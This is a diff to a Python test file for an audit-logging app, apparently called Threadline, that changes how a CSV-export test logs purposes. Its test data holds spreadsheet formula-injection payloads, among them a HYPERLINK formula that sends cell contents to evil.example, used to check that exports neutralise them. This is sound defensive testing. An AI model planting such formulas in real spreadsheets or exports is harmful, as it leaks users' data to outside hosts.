@@ -16,7 +16,9 @@ from sqlalchemy import Engine, func, select
 from tests.factories import make_person
 from tests.web.conftest import ADMIN, OFFICER, PARTNER, PASSWORD, Site, sign_in
 from threadline.accounts import add_user
+from threadline.accounts.login import actor_for
 from threadline.audit.refusals import REFUSED_EVENT
+from threadline.check import check
 from threadline.settings import Settings
 from threadline.storage.db import make_engine, session_scope
 from threadline.storage.tables import AuditEventRow
@@ -120,7 +122,7 @@ def test_the_check_event_is_committed_before_the_answer_is_sent(
         "scheme": "https",
         "path": "/api/v1/check",
         "raw_path": b"/api/v1/check",
-        "query_string": b"name=Jo+Smith&purpose=stop+check",
+        "query_string": b"reason=stop&name=Jo+Smith&purpose=stop+check",
         "root_path": "",
         "headers": [(b"host", b"testserver"), (b"authorization", b"Bearer " + token)],
         "client": ("127.0.0.1", 5000),
@@ -157,11 +159,12 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "@S
 def test_the_audit_csv_neutralises_formulas_and_quotes_bare_cr_and_tab(
     client: TestClient, site: Site
 ) -> None:
-    for purpose in [*FORMULAS, "\tTAB first", "line\rbreak"]:
-        reply = client.get(
-            "/api/v1/check", params={"name": "Jo Smith", "purpose": purpose}, headers=bearer(site)
-        )
-        assert reply.status_code == 200
+    # The page, the API and the CLI put the reason's label first ("Stop or encounter: ..."),
+    # so the formulas are logged as a caller inside Threadline may log them: as given.
+    with session_scope(site.engine) as session:
+        officer = actor_for(session, OFFICER)
+        for purpose in [*FORMULAS, "\tTAB first", "line\rbreak"]:
+            check(session, actor=officer, name="Jo Smith", purpose=purpose)
     with session_scope(site.engine) as session:
         add_user(
             session,
